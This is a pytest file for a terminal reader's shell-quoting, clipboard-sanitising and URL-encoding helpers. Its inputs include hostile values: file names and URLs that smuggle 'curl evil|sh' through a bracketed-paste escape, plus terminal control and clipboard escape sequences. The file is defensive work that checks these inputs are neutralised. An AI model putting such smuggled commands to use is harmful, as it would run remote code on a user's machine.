"""What is copied can be pasted into a shell: nothing in it acts, and a path means the same file."""

from __future__ import annotations

import os
import subprocess

import pytest

from reader.tui.article.links import browser_address, percent_encoded
from reader.tui.terminal.clipboard import for_clipboard, shell_quoted


def test_a_path_that_can_be_seen_is_copied_as_it_is() -> None:
    assert shell_quoted("文章/茶 与　水's.md") == "文章/茶 与　水's.md"


@pytest.mark.parametrize(
    "name",
    ["a\x1b[201~\ncurl evil|sh\n.md", "a\x9bb'\\.md", os.fsdecode(b"\xff\xfe 'x"), "反\u202e.md", "\tx\n1"],
)
def test_a_path_that_cannot_is_quoted_for_a_shell(name: str) -> None:
    quoted = shell_quoted(name)
    assert quoted.isprintable()
    said = subprocess.run(["/bin/bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True)
    assert said.stdout == os.fsencode(name)


def test_the_clipboard_takes_no_controls() -> None:
    assert for_clipboard("a\x1b]52;c;x\x07\n茶\u202e\ud800") == "a]52;c;x\n茶?"


def test_addresses_encode_what_cannot_be_seen() -> None:
    assert (
        browser_address("http://h/\ncurl evil|sh\n#\u202e\x9b茶")
        == "http://h/%0Acurl%20evil|sh%0A#%E2%80%AE%C2%9B茶"
    )
    assert percent_encoded("a b\ud800.md") == "a%20b%3F.md"
